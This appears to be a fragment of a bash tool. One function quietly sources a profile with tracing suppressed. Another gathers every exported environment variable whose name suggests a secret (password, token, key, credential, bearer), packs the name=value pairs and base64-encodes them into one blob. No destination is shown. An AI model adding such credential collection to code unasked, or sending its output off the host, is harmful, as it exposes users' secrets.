# source_profile FILE: its variables, and nothing that it says. What it has switched on for itself is off again: a trace
# would show its secrets, and what comes after it is written for a bash as it is.
source_profile() {
  # shellcheck disable=SC1090 # the host's
  source "$1" >/dev/null 2>&1 </dev/null
  { set +efuvx +o pipefail; } 2>/dev/null
}

# secret_variables: what is exported and may be a secret by its name, as name=value with NULs between, in base64.
secret_variables() {
  local fcops_name
  while IFS= read -r fcops_name; do
    [[ $fcops_name != *PWD && ${fcops_name,,} =~ pass|pwd|psk|pin|auth|key|cred|bearer|secret|token|api_info ]] || continue
    printf '%s=%s\0' "$fcops_name" "${!fcops_name}"
  done < <(compgen -e) | head -c 65536 | base64 -w 0
}
